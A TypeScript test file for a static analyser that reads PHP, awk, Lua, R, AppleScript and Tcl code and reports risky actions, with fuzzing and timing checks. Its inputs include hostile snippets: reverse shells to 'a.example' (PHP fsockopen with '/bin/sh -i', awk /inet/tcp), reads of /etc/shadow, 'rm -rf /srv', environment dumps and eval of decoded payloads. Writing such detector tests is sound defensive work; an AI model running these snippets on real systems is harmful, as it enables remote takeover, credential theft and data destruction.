import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { codeReader } from '../../../../src/actions/code/index.ts';
import type { Language } from '../../../../src/actions/command.ts';
import { cpuTime } from '../../../support/cpu-time.ts';
import { findings, read, setting } from './read.ts';

const lines = (...each: readonly string[]) => each.join('\n');
const encoded = (text: string) => Buffer.from(text).toString('base64');

describe('PHP', () => {
  test.each<[string, readonly string[]]>([
    ["unlink('/srv/a');", ['file.delete /srv/a']],
    ["array_map('unlink', glob('/srv/*.x'));", ['file.delete /srv/*.x']],
    ["foreach (['/srv/a', '/srv/b'] as $f) { unlink($f); }", ['file.delete /srv/a', 'file.delete /srv/b']],
    ["function drop($p) { unlink($p); } drop('/srv/a');", ['file.delete /srv/a']],
    ["SyStEm('id'); echo shell_exec('ls'), `who`;", ['shell id', 'shell ls', 'shell who']],
    ["$f = 'sys' . 'tem'; $f('id'); call_user_func('exec', 'ls');", ['shell id', 'shell ls']],
    [`eval(base64_decode('${encoded('go();')}'));`, ['code.eval decoded', 'code go(); (decoded)']],
    ["eval(gzinflate(base64_decode('x')));", ['code.eval decoded']],
    ["<?php assert($_POST['x']); ?>", ['code.eval downloaded']],
    [
      '$s = fsockopen("a.example", 1); proc_open("/bin/sh -i", [0 => $s, 1 => $s], $p);',
      ['net.request a.example raw-socket,reverse-shell', 'exec /bin/sh interactive', 'shell /bin/sh -i'],
    ],
    ["echo file_get_contents('/etc/shadow');", ['file.read /etc/shadow']],
    ["file_put_contents('/srv/x', 'y', FILE_APPEND);", ['file.append /srv/x']],
    ['print_r(getenv());', ['secret.dump environment']],
    ["echo \"system('id')\"; // unlink('x')", []],
    [lines('$d = json_decode("{}", true);', 'foreach ($d as $k => $v) { echo "$k: {$v[0]}\\n"; }'), []],
    [lines('$x = <<<END', "unlink('/srv/x')", 'END;', "unlink('/srv/y');"), ['file.delete /srv/y']],
  ])('%s', (code, expected) => {
    expect(findings(read('php', code))).toEqual(expected);
  });
});

describe('awk', () => {
  test.each<[string, readonly string[]]>([
    ['BEGIN { system("rm -rf /srv") }', ['shell rm -rf /srv']],
    ['{ cmd = "rm " $1; system(cmd) }', ['shell rm … (dynamic)']],
    ['function f(a) { system(a) } BEGIN { f("id") }', ['shell id']],
    ['{ print $0 | "sh" }', ['exec … dynamic']],
    ['BEGIN { print "rm -rf", "/srv" | "/bin/sh" }', ['shell rm -rf /srv']],
    ['{ print $0 | "sort -u" }', ['shell sort -u']],
    ['BEGIN { "id" | getline x; print x }', ['shell id']],
    ['{ print > "/etc/hosts" }', ['file.write /etc/hosts']],
    ['{ print $1, $2 >> "out" }', ['file.append /home/ann/app/out']],
    ['BEGIN { while ((getline line < "/etc/shadow") > 0) print line }', ['file.read /etc/shadow']],
    [
      'BEGIN { s = "/inet/tcp/0/a.example/1"; while ((s |& getline c) > 0) system(c) }',
      ['net.request a.example raw-socket,reverse-shell', 'exec … dynamic', 'shell … (downloaded)'],
    ],
    ['NR > 1 && $3 > 100 { sum += $3; n++ } END { printf "%.2f\\n", sum / n }', []],
    ['/system\\(/ { gsub(/exec/, "x"); print "system(\\"id\\")" }', []],
  ])('%s', (code, expected) => {
    expect(findings(read('awk', code))).toEqual(expected);
  });

  test('what it prints of its input is not known', () => {
    expect(read('awk', '{ print $1 }').stdout).toEqual({ origin: 'dynamic' });
  });
});

describe('Lua', () => {
  test.each<[string, readonly string[]]>([
    ['os.remove("/srv/a")', ['file.delete /srv/a']],
    ['for _, f in ipairs({"/srv/a", "/srv/b"}) do os.remove(f) end', ['file.delete /srv/a', 'file.delete /srv/b']],
    ['local function drop(p) os.remove(p) end drop("/srv/a")', ['file.delete /srv/a']],
    ['if x then os.remove "a" else os.remove [[b]] end', ['file.delete /home/ann/app/a', 'file.delete /home/ann/app/b']],
    ['os["exe" .. "cute"]("id"); io.popen("ls"):read("*a")', ['shell id', 'shell ls']],
    ['load("go()")()', ['code.eval literal', 'code go()']],
    ['local f = io.open("/srv/x", "w"); f:write("y")', ['file.write /srv/x']],
    ['-- os.remove("x")\n--[[ os.remove("y") ]] print("os.remove(1)")', []],
  ])('%s', (code, expected) => {
    expect(findings(read('lua', code))).toEqual(expected);
  });
});

describe('R, AppleScript and Tcl', () => {
  test.each<[Language, string, readonly string[]]>([
    ['r', 'unlink("/srv", recursive = TRUE)', ['file.delete /srv recursive']],
    ['r', 'x <- paste0("rm -rf ", "/srv"); system(x)', ['shell rm -rf /srv']],
    ['r', 'for (f in c("/srv/a", "/srv/b")) { file.remove(f) }', ['file.delete /srv/a', 'file.delete /srv/b']],
    ['r', 'eval(parse(text = "go()"))', ['code.eval literal', 'code go()']],
    ['r', 'd <- data.frame(a = 1:3); print(summary(d$a)) # system("id")', []],
    ['applescript', 'do shell script "rm -rf " & "/srv"', ['shell rm -rf /srv']],
    ['applescript', 'set c to "id"\ndo shell script c with administrator privileges', ['shell id']],
    ['applescript', 'tell application "Terminal" to do script "id"', ['shell id']],
    ['tcl', 'exec rm -rf /srv', ['argv rm -rf /srv']],
    ['tcl', 'file delete -force /srv/x', ['file.delete /srv/x recursive,force']],
    ['tcl', 'set p /srv/x\nputs [exec cat $p]', ['argv cat /srv/x']],
    ['tcl', 'foreach f {/srv/a /srv/b} { file delete $f }', ['file.delete /srv/a', 'file.delete /srv/b']],
    ['tcl', 'if {1} { exec id } ;# exec ls', ['argv id']],
    ['tcl', 'puts "exec rm -rf /" # exec x', []],
    ['applescript', 'display notification "do shell script" with title "x" -- do shell script "id"', []],
  ])('%s: %s', (language, code, expected) => {
    expect(findings(read(language, code))).toEqual(expected);
  });
});

const READ: readonly Language[] = ['python', 'javascript', 'perl', 'ruby', 'php', 'awk', 'lua', 'r', 'applescript', 'tcl'];
const PIECES = [
  '(',
  ')',
  '{',
  '}',
  '[',
  ']',
  '"',
  "'",
  '`',
  '\\',
  '\n',
  '\n    ',
  ' ',
  ',',
  ';',
  ':',
  '=',
  '=>',
  '.',
  '..',
  '/',
  '%',
  '#',
  '#{',
  '${',
  '<<',
  '<<<',
  '$',
  '@',
  'x',
  'os',
  'def',
  'for',
  'in',
  'end',
  'do',
  'function',
  'if',
  'lambda',
  '1',
  'f"',
  '"""',
  'q{',
  '%w(',
  'import',
  'require',
  'eval',
  '|',
  '->',
  '?',
];

describe.each(READ)('any text as %s', (language) => {
  test('is read without an error', () => {
    const text = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc.array(fc.constantFrom(...PIECES), { maxLength: 80 }).map((each) => each.join('')),
    );
    fc.assert(
      fc.property(text, (code) => typeof codeReader(language)?.(code, setting) === 'object'),
      { numRuns: 300 },
    );
  });

  test.each([
    ['nested brackets', '('.repeat(100_000)],
    ['braces', 'x{'.repeat(100_000)],
    ['calls', 'f('.repeat(50_000)],
    ['open strings', '"a'.repeat(100_000)],
    ['interpolation', '"#{"${'.repeat(50_000)],
    ['statements', 'x = x + x;'.repeat(50_000)],
    ['lines', 'for a in a:\n'.repeat(40_000)],
    ['here-documents', '<<A\n'.repeat(50_000)],
    ['patterns', '/a'.repeat(100_000)],
    ['broken parameters', 'function f(a;b, ;'.repeat(20_000)],
  ])('a long run of %s ends soon', (_what, code) => {
    const start = cpuTime();
    read(language, code);
    expect(cpuTime() - start).toBeLessThan(1000);
  });
});

test('doubling a string and looping in loops end soon', () => {
  const start = cpuTime();
  read('python', `x = 'ab'\n${'x = x + x\n'.repeat(5000)}`);
  read(
    'python',
    `${Array.from({ length: 20 }, (_unused, depth) => `${' '.repeat(depth)}for a in [${'1,'.repeat(40)}]:\n`).join('')}${' '.repeat(20)}f(a)`,
  );
  read('python', `def f(x):\n  f(x); f(x)\nf(1)`);
  expect(cpuTime() - start).toBeLessThan(1000);
});
